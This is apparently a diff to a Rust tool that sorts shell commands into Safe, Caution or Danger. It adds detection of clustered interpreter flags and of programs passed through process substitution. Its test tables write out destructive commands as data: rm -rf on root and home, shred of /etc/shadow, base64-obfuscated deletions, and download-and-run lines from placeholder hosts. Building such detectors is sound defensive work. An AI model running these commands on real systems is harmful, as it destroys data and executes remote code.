@@ -137,6 +137,8 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
     }
     if is_shell(name) && c_index.is_none() {
         script_from_stream(ctx, acc);
+    } else if c_index.is_none() {
+        program_from_stream(ctx, acc);
     }
     if upstream_downloads
         && (!has_script_file
@@ -172,8 +174,12 @@ fn code_flag_index(name: &str, args: &[&str]) -> Option<usize> {
                 || matches!(*a, "-c" | "-e" | "-E")
                 || *a == "-r" && name == "php"
                 || a.ends_with('e')
-                    && name == "perl"
+                    && matches!(name, "perl" | "ruby")
                     && a[1..].chars().all(|c| c.is_ascii_lowercase())
+                // `python3 -Ic CODE`, `-uc`, `-Bc`: a cluster ending in c.
+                || a.ends_with('c')
+                    && name.starts_with("python")
+                    && a[1..].chars().all(|c| c.is_ascii_alphabetic())
                 || *a == "-Command")
             || matches!(
                 *a,
@@ -324,6 +330,22 @@ fn script_from_stream(ctx: &Ctx, acc: &mut Acc) {
     }
 }
 
+/// `python3 <(echo …)`, `escript <(printf …)`: the program is what the
+/// process substitution prints; fixed text is judged as its code, text
+/// known only at run time is at least caution.
+fn program_from_stream(ctx: &Ctx, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
+    let Some(w) = ctx.positionals().first().copied().filter(|w| w.procsub) else {
+        return;
+    };
+    for s in &w.subs {
+        match eval_script(s, acc) {
+            Some(text) => code_run(name, &text, ctx.depth + 1, acc),
+            None => acc.caution(format!("{name} runs what a process substitution prints")),
+        }
+    }
+}
+
 /// `sh -c 'rm -rf "$1"' _ /etc`: the words after the script (after `$0`)
 /// are its positional parameters `$1`…`$9`, `$@` and `$*`.
 fn positional_params(script: &str, params: &[&str]) -> String {
@@ -390,16 +412,8 @@ fn runs_its_arguments(code: &str, rest: &[&str], depth: usize, acc: &mut Acc) {
 /// What code given to an interpreter deletes or hands to a shell.
 pub(crate) fn code_run(name: &str, code: &str, depth: usize, acc: &mut Acc) {
     // Shell commands the code hands to a shell (system, exec, backticks…).
-    // A quoted single word (`"rm"` of `system "echo", "rm"`) is a word of
-    // an argument list, judged with its list; backticks and `qx` run alone.
-    let list_word = |s: &str| {
-        !s.contains(char::is_whitespace)
-            && (code.contains(&format!("\"{s}\"")) || code.contains(&format!("'{s}'")))
-    };
-    for inner in interpreter_shell_strings(code) {
-        if !list_word(&inner) {
-            assess_script(&inner, depth + 1, acc);
-        }
+    for inner in shell_strings_run(name, code) {
+        assess_script(&inner, depth + 1, acc);
     }
     code_effects(name, code, depth, acc);
     if matches!(name, "tclsh" | "wish" | "expect") {
@@ -517,7 +531,6 @@ mod tests {
     #[test]
     fn examples() {
         check_examples(&[
-            ("tmux new -d 'rm -rf ~'", Danger),
             // perl -i emptying a system file, and edits that keep the lines.
             ("perl -i -ne 'print if 0' /etc/passwd", Danger),
             ("perl -i.bak -pe '$_ = \"\"' /etc/fstab", Danger),
@@ -526,20 +539,6 @@ mod tests {
             ("perl -i -pe 's/foo/bar/' /etc/hosts", Caution),
             ("perl -i -ne 'print if 0' notes.txt", Caution),
             ("perl -ne 'print if 0' /etc/passwd", Safe),
-            // PowerShell: a download run, trees deleted, and look-alikes.
-            ("pwsh -c \"iex (iwr https://get.example/i.ps1)\"", Danger),
-            (
-                "powershell -Command \"(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex\"",
-                Danger,
-            ),
-            ("pwsh -c 'Invoke-Expression $script'", Caution),
-            ("pwsh -c \"Write-Output 'iex (iwr x)'\"", Safe),
-            ("pwsh -c 'Remove-Item -Recurse -Force C:\\Windows\\System32'", Danger),
-            ("pwsh -c 'Remove-Item -Recurse -Force $env:USERPROFILE'", Danger),
-            ("Remove-Item -Recurse -Force ~", Danger),
-            ("pwsh -c 'Remove-Item -Recurse -Force ./bin'", Caution),
-            ("pwsh -c 'Get-ChildItem -Recurse C:\\Windows'", Safe),
-            ("tmux new -s work", Safe),
             ("perl -e 'exec @ARGV' shred -u /etc/shadow", Danger),
             (
                 "python3 -c 'import subprocess,sys; subprocess.run(sys.argv[1:])' rm -rf /srv",
@@ -566,9 +565,6 @@ mod tests {
             ("bash /dev/fd/0 <<< 'rm -rf /'", Danger),
             ("source <(kubectl completion bash)", Caution),
             ("bash <(echo 'ls -la')", Safe),
-            ("screen -dm bash -c 'rm -rf ~'", Danger),
-            ("screen -S build -dm make", Safe),
-            ("xterm -e 'rm -rf ~'", Danger),
             ("env -S 'rm -rf /'", Danger),
             ("env -S 'ls -la'", Safe),
             (
@@ -594,7 +590,6 @@ mod tests {
             ("script -qc 'rm -rf ~' /dev/null", Danger),
             ("echo 'rm -rf ~' | tee /tmp/a.sh; sh /tmp/a.sh", Danger),
             ("perl -pi -e 's/foo/bar/' conf.ini", Caution),
-            ("chroot /mnt/sysroot rm -rf /usr", Danger),
             ("sh <(echo cm0gLXJmIC8= | base64 -d)", Danger),
             (
                 "python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIH4='))\"",
@@ -619,6 +614,17 @@ mod tests {
             ("wget https://x.example/r.sh -O r.sh; bash r.sh", Danger),
             ("eval $(echo cm0gLXJmIH4K | base64 -d)", Danger),
             ("sudo -u pg bash -c 'rm -rf /var/lib/postgresql'", Danger),
+            // Flags in clusters, and programs given as a process substitution.
+            (
+                r#"python3 -Ic 'import shutil; shutil.rmtree("/etc")'"#,
+                Danger,
+            ),
+            (r#"ruby -we 'system("rm -rf /srv")'"#, Danger),
+            (
+                r#"escript <(echo 'main(_) -> os:cmd("rm -rf ~").')"#,
+                Danger,
+            ),
+            (r#"python3 <(echo 'print(1)')"#, Safe),
         ]);
     }
 }
